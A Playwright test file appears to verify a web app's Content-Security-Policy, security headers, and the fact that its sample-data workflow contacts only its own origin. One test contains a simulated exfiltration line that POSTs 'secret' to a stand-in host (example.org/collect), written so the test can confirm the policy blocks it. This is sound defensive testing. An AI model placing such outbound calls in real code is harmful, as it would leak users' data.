import { test, expect, openApp } from './fixtures.js';

test('the Content-Security-Policy is the first element of <head> and the server sends it too', async ({ page, request }) => {
  await openApp(page);
  const first = await page.evaluate(() => {
    const el = document.head.firstElementChild;
    return { tag: el.tagName, equiv: el.getAttribute('http-equiv'), content: el.getAttribute('content') };
  });
  expect(first.tag).toBe('META');
  expect(first.equiv).toBe('Content-Security-Policy');
  const directives = Object.fromEntries(first.content.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  expect(directives['default-src']).toEqual(["'none'"]);
  expect(directives['connect-src']).toEqual(["'self'"]);
  expect(directives['script-src']).not.toContain("'unsafe-inline'");
  expect(directives['script-src']).not.toContain("'unsafe-eval'");
  expect(await page.locator('script:not([src])').count(), 'no inline scripts').toBe(0);

  const response = await request.get('./');
  expect(response.headers()['content-security-policy']).toBe(`${first.content}; frame-ancestors 'none'`);
  expect(response.headers()['x-content-type-options']).toBe('nosniff');
  expect(response.headers()['referrer-policy']).toBe('no-referrer');
  const wasm = await page.evaluate(() => document.querySelector('script[data-wasm]').dataset.wasm);
  expect((await request.get(wasm)).headers()['content-type']).toBe('application/wasm');
});

test('the policy blocks any attempt to reach another origin', async ({ page, audit }) => {
  await openApp(page);
  // The browser reports each blocked attempt on the console: expected here, and asserted below.
  audit.allowConsoleErrors = true;
  audit.expectBlocked = true;
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    let fetchBlocked = false;
    try {
      await fetch('https://example.org/collect', { method: 'POST', body: 'secret' });
    } catch {
      fetchBlocked = true;
    }
    const img = new Image();
    img.src = 'https://example.org/pixel.png';
    await new Promise((resolve) => { img.onerror = resolve; img.onload = resolve; });
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { fetchBlocked, violations };
  });
  expect(outcome.fetchBlocked).toBe(true);
  expect(outcome.violations).toEqual(
    expect.arrayContaining([
      expect.stringMatching(/^connect-src https:\/\/example\.org/),
      expect.stringMatching(/^img-src https:\/\/example\.org/),
    ]),
  );
  // The fixture then checks that every attempt failed with the policy's own error.
});

test('loading, charting and exporting the sample requests only the app’s own files', async ({ page, audit, baseURL }) => {
  await openApp(page);
  await page.getByRole('button', { name: 'Try sample data' }).click();
  await expect(page.locator('#status')).toContainText('Loaded 12 files');
  const download = page.waitForEvent('download');
  await page.locator('#download-csv').click();
  await download;
  const own = audit.requests.filter((u) => u.startsWith(new URL(baseURL).origin));
  expect(own.filter((u) => u.includes('/sample/'))).toHaveLength(12);
  // The fixture then fails the test if any request went anywhere else.
});
